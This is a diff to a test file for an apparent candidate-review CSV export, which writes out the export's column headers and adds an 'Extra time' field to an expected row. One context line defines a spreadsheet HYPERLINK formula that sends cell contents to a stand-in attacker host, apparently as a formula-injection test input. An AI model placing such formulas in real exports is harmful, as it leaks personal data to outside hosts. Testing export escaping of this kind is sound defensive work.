@@ -6,9 +6,34 @@ import { testDatabaseKinds } from '../../test/test-databases';
 import { writeLiveWebm } from '../../test/test-video';
 import { locateFfmpeg, type FfmpegTools } from '../recordings/ffmpeg';
 import type { Role } from '../../../shared/roles.schema';
-import { CSV_COLUMNS } from './review-export';
 import { seedReviewFixture, type ReviewFixture } from './review-test-fixture';
 import { listRoles, seedCandidate, type SeededCandidate } from './review-test-seed';
+
+/** The header of an export whose candidates were asked 3 questions at most, written out. */
+const CSV_COLUMNS = [
+  'Name',
+  'Email',
+  'Social',
+  'Role',
+  'Company',
+  'Registered',
+  'Completed',
+  'Answered',
+  'Video',
+  'Over time',
+  'Extra time',
+  'Candidate rating',
+  'Candidate feedback',
+  'Score',
+  'Status',
+  'Notes',
+  'Question 1',
+  'Answer 1',
+  'Question 2',
+  'Answer 2',
+  'Question 3',
+  'Answer 3',
+];
 
 const HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';
 
@@ -115,6 +140,7 @@ describe.each(testDatabaseKinds())('the CSV export on %s', (kind) => {
       Answered: '3',
       Video: 'ready',
       'Over time': 'No',
+      'Extra time': '',
       'Candidate rating': '4',
       'Candidate feedback': 'Smooth',
       Score: '5',
